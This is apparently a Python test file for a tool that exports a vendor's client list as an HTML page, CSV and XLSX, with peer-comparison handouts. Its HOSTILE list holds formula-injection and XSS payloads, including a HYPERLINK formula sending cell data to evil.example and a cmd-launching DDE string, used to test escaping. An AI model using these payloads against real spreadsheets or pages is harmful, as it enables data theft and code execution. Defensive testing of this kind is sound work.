"""`portfolio`: the vendor's list of all clients as page, CSV and XLSX, and what it may not do."""

import csv
import io
import os
import re
import stat
import unittest
import xml.etree.ElementTree as ElementTree
import zipfile
from html.parser import HTMLParser

from support import VALID, Workplace, run

SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?a=\"&A1,\"見る\")",
    "<img src=x onerror=alert(1)>",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＋1+1",
    "-2+3",
    "</style></script><script>alert(1)</script>",
    "a\"b,c;d",
    "_x0041_株式会社",
    "{{client.name}}**太字**",
]


def client(name, number, answers="yes", **changes):
    """A client file of its own: `changes` replace whole lines by their key."""
    text = VALID.replace("id: sample", f"id: c{number}").replace("株式会社ためし", "＠name＠")
    text = re.sub(r"(\d+): (yes|no)\n", lambda m: f"{m[1]}: {answers}\n", text)
    for key, value in changes.items():
        text = re.sub(rf"^{key}: .*$", f"{key}: {value}", text, flags=re.M)
    return text.replace("＠name＠", "'" + name.replace("'", "''") + "'")


class Table(HTMLParser):
    """The rows of the table of clients: texts of cells, and the tags of the page."""

    def __init__(self, page):
        super().__init__()
        self.rows, self.tags, self.inside, self.cell = [], [], False, None
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))
        if tag == "table":
            self.inside = dict(attributes).get("id") == "clients"
        elif self.inside and tag == "tr":
            self.rows.append([])
        elif self.inside and tag in ("td", "th"):
            self.rows[-1].append("")
            self.cell = True

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.cell = None
        if tag == "table":
            self.inside = False

    def handle_data(self, data):
        if self.inside and self.cell:
            self.rows[-1][-1] += data


def unescaped(text):
    """As readers of XLSX see a string: _x0041_ is an A."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def sheet_cells(book, number):
    """Rows of a worksheet as lists of (type, value, style)."""
    strings = [
        unescaped("".join(t.text or "" for t in item.iter(SHEET + "t")))
        for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
    ]
    rows = []
    for row in ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml")).iter(SHEET + "row"):
        cells = {}
        for cell in row.iter(SHEET + "c"):
            column = re.match(r"[A-Z]+", cell.get("r"))[0]
            value = cell.find(SHEET + "v")
            if value is not None:
                kind = cell.get("t", "n")
                cells[column] = (kind, strings[int(value.text)] if kind == "s" else float(value.text))
        rows.append(cells)
    return rows


class Portfolio(Workplace):
    def portfolio(self, folder=None, *arguments, **keywords):
        out = os.path.join(self.folder, "out")
        return run("portfolio", folder or self.clients, "--out", out, *arguments, **keywords)

    def setUp(self):
        super().setUp()
        self.clients = os.path.join(self.folder, "clients")
        os.mkdir(self.clients)

    def add(self, number, name=None, **keywords):
        text = client(name or f"株式会社{number}番", number, **keywords)
        self.write(text, f"clients/c{number}.yaml")

    def made(self, name):
        with open(os.path.join(self.folder, "out/portfolio", name), "rb") as file:
            return file.read()

    def rows(self):
        text = self.made("clients.csv").decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    def test_the_samples_are_all_there_worst_first(self):
        code, out, err, _ = self.portfolio("content/clients")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(len(out.split()), 4)
        rows = self.rows()
        self.assertEqual(len(rows), 8)
        grades = {"大": 3, "中": 2, "小": 1}
        keys = [-grades[row["心配の大きさ"]] for row in rows]
        self.assertEqual(keys, sorted(keys))
        midori = next(row for row in rows if row["お客様ID"] == "midori")
        self.assertEqual((midori["点数"], midori["前回との差"], midori["次の打ち合わせ"]),
                         ("58", "12", "2026-11-17"))
        page = self.made("index.html").decode()
        self.assertIn("社内用・お客様に渡さない", page)
        self.assertIn("すべて架空のお客様です", page)
        table = Table(page).rows
        self.assertEqual([row["お客様ID"] for row in rows],
                         [re.search(r"[a-z]+$", row[0])[0] for row in table[1:]])
        self.assertEqual({len(row) for row in table}, {16})

    def test_files_are_for_the_vendor_alone(self):
        self.add(1)
        self.assertEqual(self.portfolio()[0], 0)
        folder = os.path.join(self.folder, "out/portfolio")
        self.assertEqual(stat.S_IMODE(os.stat(folder).st_mode), 0o700)
        for name in os.listdir(folder):
            self.assertEqual(stat.S_IMODE(os.stat(os.path.join(folder, name)).st_mode), 0o600, name)

    def test_the_same_input_gives_the_same_bytes(self):
        for number in range(3):
            self.add(number)
        names = ("index.html", "clients.csv", "clients.xlsx", "peers.yaml")
        self.portfolio()
        first = [self.made(name) for name in names]
        self.portfolio(environment={"TZ": "Asia/Tokyo", "LC_ALL": "C"})
        self.assertEqual(first, [self.made(name) for name in names])

    def test_hostile_names_are_text_everywhere(self):
        for number, name in enumerate(HOSTILE):
            self.add(number, name)
        code, _, err, _ = self.portfolio()
        self.assertEqual((code, err), (0, ""))
        page = self.made("index.html").decode()
        parsed = Table(page)
        shown = [row[0] for row in parsed.rows[1:]]
        for number, name in enumerate(HOSTILE):
            self.assertTrue(any(cell.startswith(name) for cell in shown), name)
        self.assertEqual(len([tag for tag, _ in parsed.tags if tag == "script"]), 1)
        self.assertFalse([tag for tag, _ in parsed.tags if tag == "img"])
        self.assertFalse([a for _, attributes in parsed.tags for a in attributes if a.startswith("on")])
        names = {row["お客様ID"]: row["お客様"] for row in self.rows()}
        for number, name in enumerate(HOSTILE):
            guarded = "'" + name if name[0] in "=+-@＋" else name
            self.assertEqual(names[f"c{number}"], guarded)
        book = zipfile.ZipFile(io.BytesIO(self.made("clients.xlsx")))
        cells = sheet_cells(book, 1)
        self.assertEqual({row["B"] for row in cells[1:]}, {("s", name) for name in HOSTILE})
        self.assertNotIn(b"<f>", book.read("xl/worksheets/sheet1.xml"))
        self.assertFalse([name for name in book.namelist() if "hyperlink" in name.lower()])

    def test_signs_that_xml_forbids_do_not_break_the_workbook(self):
        text = client("ここ", 1).replace("'ここ'", '"前\\uFFFE後"')
        self.write(text, "clients/c1.yaml")
        code, _, err, _ = self.portfolio()
        if code == 0:
            book = zipfile.ZipFile(io.BytesIO(self.made("clients.xlsx")))
            self.assertEqual(sheet_cells(book, 1)[1]["B"], ("s", "前後"))
        else:
            self.assertIn("c1.yaml:2", err)

    def test_csv_is_what_excel_expects(self):
        self.add(1)
        self.portfolio()
        data = self.made("clients.csv")
        self.assertTrue(data.startswith(b"\xef\xbb\xbf"))
        self.assertEqual(data.count(b"\n"), data.count(b"\r\n"))
        self.assertTrue(data.endswith(b"\r\n"))

    def test_xlsx_has_numbers_dates_and_a_second_sheet(self):
        self.portfolio("content/clients")
        book = zipfile.ZipFile(io.BytesIO(self.made("clients.xlsx")))
        self.assertIsNone(book.testzip())
        rows = sheet_cells(book, 1)
        head = {cell[1]: column for column, cell in rows[0].items()}
        midori = next(row for row in rows if row["A"][1] == "midori")
        self.assertEqual(midori[head["点数"]], ("n", 58.0))
        self.assertEqual(midori[head["1年の予算"]], ("n", 450000.0))
        self.assertEqual(midori[head["次の打ち合わせ"]], ("n", 46343.0))  # 2026-11-17
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        self.assertIn('state="frozen"', sheet)
        self.assertIn("<autoFilter", sheet)
        self.assertIn("円", book.read("xl/styles.xml").decode())
        second = [cell[1] for row in sheet_cells(book, 2) for cell in row.values()]
        self.assertIn("業種ごとの平均点", second)
        self.assertIn("2026-11-16T00:00:00Z", book.read("docProps/core.xml").decode())

    def test_a_bad_client_is_named_and_left_out(self):
        self.add(1)
        self.write(client("だめな会社", 2).replace("employees: 40", "employees: たくさん"),
                   "clients/c2.yaml")
        self.add(3)
        code, out, err, _ = self.portfolio()
        self.assertEqual(code, 1)
        self.assertEqual(len(out.split()), 4)
        self.assertIn("c2.yaml:6", err)
        self.assertEqual([row["お客様ID"] for row in self.rows()], ["c1", "c3"])
        page = self.made("index.html").decode()
        self.assertIn("<strong>c2.yaml</strong>", page)
        self.assertIn("employees", page)
        self.assertNotIn("だめな会社", page)

    def test_two_files_with_one_id_are_both_left_out(self):
        self.add(1)
        self.add(2)
        os.mkdir(os.path.join(self.clients, "old"))
        self.write(client("前の会社", 1), "clients/old/c1.yaml")
        code, _, err, _ = self.portfolio()
        self.assertEqual(code, 1)
        self.assertIn("[E902]", err)
        self.assertEqual([row["お客様ID"] for row in self.rows()], ["c2"])

    def test_a_place_that_cannot_be_written_is_told(self):
        self.add(1)
        self.write("これはフォルダーではありません", "out")
        code, out, err, _ = self.portfolio()
        self.assertEqual((code, out), (2, ""))
        self.assertIn("[E004]", err)

    def test_without_a_good_client_the_page_says_what_is_wrong(self):
        self.write("id: c1\n", "clients/c1.yaml")
        self.assertEqual(self.portfolio()[0], 1)
        page = self.made("index.html").decode()
        self.assertIn("<strong>c1.yaml</strong>", page)
        self.assertEqual(self.rows(), [])

    def test_an_empty_folder_keeps_the_last_portfolio(self):
        self.add(1)
        self.portfolio()
        before = self.made("index.html")
        empty = os.path.join(self.folder, "empty")
        os.mkdir(empty)
        code, _, err, _ = self.portfolio(empty)
        self.assertEqual(code, 1)
        self.assertIn("[E940]", err)
        self.assertEqual(before, self.made("index.html"))

    def test_samples_do_not_count_beside_real_clients(self):
        self.add(1, fictional="no")
        self.add(2, answers="no")
        self.portfolio()
        page = self.made("index.html").decode()
        self.assertIn("架空の見本が1社あります", page)
        self.assertRegex(page, r"お客様</dt><dd>1<small>社")
        self.assertRegex(page, r"点数のまん中</dt><dd>100<small>点")

    def test_hints_count_from_the_date_asked_for(self):
        self.add(1)
        self.portfolio()
        self.assertNotIn("1年以上、診断していない：", self.made("index.html").decode())
        self.portfolio(None, "--date", "2027-11-11")
        self.assertIn("1年以上、診断していない：1社", self.made("index.html").decode())
        self.assertEqual(self.portfolio(None, "--date", "きのう")[0], 2)

    def test_nothing_may_be_loaded_or_run_but_our_own(self):
        self.add(1)
        self.portfolio()
        page = self.made("index.html").decode()
        policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
        self.assertIn("default-src 'none'", policy)
        self.assertNotIn("unsafe", policy)
        self.assertNotRegex(page, r'(?:src|href)="(?!#)')


class Peers(Workplace):
    """Handouts compare with others of the same trade or size, and never tell who they are."""

    def setUp(self):
        super().setUp()
        self.clients = os.path.join(self.folder, "clients")
        self.out = os.path.join(self.folder, "out")
        self.peers = os.path.join(self.out, "portfolio/peers.yaml")
        os.mkdir(self.clients)

    def fill(self, count, name="株式会社{}番の商会"):
        for number in range(count):
            answers = ("yes", "no", "partly", "unknown")[number % 4]
            self.write(client(name.format(number), number, answers), f"clients/c{number}.yaml")
        code, _, err, _ = run("portfolio", self.clients, "--out", self.out)
        self.assertEqual((code, err), (0, ""))

    def handout_html(self, number, *arguments):
        code, _, err, _ = run("handout", os.path.join(self.clients, f"c{number}.yaml"), "--out",
                              self.out, "--document", "handout", "--format", "html", *arguments)
        self.assertEqual((code, err), (0, ""))
        with open(os.path.join(self.out, f"clients/c{number}/handout.html"), "rb") as file:
            return file.read().decode()

    def test_four_others_are_too_few_and_five_are_enough(self):
        self.fill(5)
        self.assertNotIn("同じ業種や大きさの会社", self.handout_html(0, "--peers", self.peers))
        self.fill(6)
        page = self.handout_html(0, "--peers", self.peers)
        self.assertIn("同じ業種や大きさの会社", page)
        self.assertIn("製造業の会社6社のまん中は", page)
        self.assertIn("社員21〜50人の会社6社のまん中は", page)
        self.assertNotIn("同じ業種や大きさの会社", self.handout_html(0))

    def test_nobody_else_is_named(self):
        self.fill(7)
        with open(self.peers, encoding="utf-8") as file:
            self.assertNotRegex(file.read(), r"番の商会|\bc\d\b")
        for number in range(7):
            page = self.handout_html(number, "--peers", self.peers)
            named = set(re.findall(r"株式会社(\d)番の商会", page))
            self.assertEqual(named, {str(number)})

    def test_the_figures_do_not_depend_on_who_reads_them(self):
        self.fill(8)
        said = set()
        for number in range(8):
            page = self.handout_html(number, "--peers", self.peers)
            said.add(tuple(re.findall(r"社のまん中は、(−?\d+)点", page)))
        self.assertEqual(len(said), 1, said)

    def test_a_batch_makes_again_what_the_statistics_changed(self):
        self.fill(6)

        def batch(*arguments):
            code, _, err, _ = run("batch", self.clients, "--out", self.out, "--document",
                                  "handout", "--format", "html", "--jobs", "1", *arguments)
            self.assertEqual(code, 0, err)
            return os.stat(os.path.join(self.out, "clients/c3/handout.html")).st_mtime_ns

        without = batch()
        with_peers = batch("--peers", self.peers)
        self.assertNotEqual(without, with_peers)
        self.assertEqual(with_peers, batch("--peers", self.peers))
        with open(self.peers, encoding="utf-8") as file:
            text = file.read()
        self.write(text.replace("clients: 6", "clients: 7"), self.peers)
        self.assertNotEqual(with_peers, batch("--peers", self.peers))

    def test_an_edited_file_cannot_tell_more(self):
        self.fill(6)
        with open(self.peers, encoding="utf-8") as file:
            text = file.read()
        self.write(text.replace("clients: 6", "clients: 2"), self.peers)
        code, _, err, _ = run("handout", os.path.join(self.clients, "c0.yaml"), "--peers",
                              self.peers, "--out", self.out)
        self.assertEqual(code, 1)
        self.assertIn("peers.yaml", err)
        self.assertEqual(run("handout", os.path.join(self.clients, "c0.yaml"), "--peers",
                             os.path.join(self.folder, "none"), "--out", self.out)[0], 1)


if __name__ == "__main__":
    unittest.main()
